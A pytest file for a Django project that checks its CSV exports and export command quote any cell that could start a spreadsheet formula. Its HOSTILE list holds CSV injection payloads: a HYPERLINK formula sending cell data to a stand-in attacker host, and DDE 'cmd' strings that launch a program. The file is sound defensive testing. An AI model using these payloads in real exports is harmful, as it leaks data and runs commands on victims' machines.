"""CSV formula injection: harvested text never reaches a spreadsheet as a live formula."""

import csv
import io

import pytest
from django.core.management import call_command
from django.utils import timezone

from projects.catalogue.csv_cells import csv_neutralise
from projects.models import Project
from projects.tests.factories import ProjectFactory, ProjectSourceFactory

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://attaquant.example/?x="&A1,"Cliquez")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_that_could_start_a_formula_is_quoted(value):
    assert csv_neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["-3", "+33", "-1,5", "2024", "Jardin = partage", "", None, -3])
def test_numbers_and_ordinary_text_stay(value):
    assert csv_neutralise(value) == value


@pytest.fixture
def hostile_projects(reference_data):
    made = [
        ProjectFactory(title=title, summary="@SUM(A1:A9)", holder_name="-Asso", slug=f"h-{i}")
        for i, title in enumerate(HOSTILE[:4])
    ]
    Project.objects.update(first_published_at=timezone.now(), last_published_at=timezone.now())
    ProjectSourceFactory(project=made[0], organisation__name="=Partenaire piégé")
    return made


def _formula_cells(rows):
    return [
        cell
        for row in rows
        for cell in row.values()
        if cell and cell.lstrip(" ")[0] in "=+-@\t\r" and cell not in ("-",)
    ]


def test_public_csv_export_neutralises_harvested_text(client, hostile_projects):
    response = client.get("/projets/export.csv")
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == 4
    assert _formula_cells(rows) == []
    assert {r["title"] for r in rows} == {"'" + t for t in HOSTILE[:4]}
    assert {r["summary"] for r in rows} == {"'@SUM(A1:A9)"}
    assert "'=Partenaire piégé" in {r["partners"] for r in rows}
    assert all(r["latitude"] == "" or not r["latitude"].startswith("'") for r in rows)


def test_export_projects_command_neutralises_harvested_text(hostile_projects):
    out = io.StringIO()
    call_command("export_projects", "--format", "csv", stdout=out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert len(rows) == 4
    assert _formula_cells(rows) == []
    assert {r["title"] for r in rows} == {"'" + t for t in HOSTILE[:4]}
    assert any(r["sources"].startswith("'=Partenaire piégé|") for r in rows)
